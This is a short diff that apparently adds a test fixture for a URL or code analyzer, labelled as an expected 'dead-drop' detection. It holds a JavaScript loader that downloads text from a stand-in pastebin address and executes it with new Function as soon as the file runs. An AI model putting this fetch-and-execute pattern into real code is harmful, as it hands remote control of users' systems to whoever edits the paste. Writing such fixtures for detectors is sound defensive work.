@@ -1,0 +1,5 @@
+const load = async () => {
+  const text = await (await fetch('https://pastebin.example/raw/k3Jd82')).text(); // expect: url-analyzer/dead-drop
+  return new Function(text)();
+};
+load();
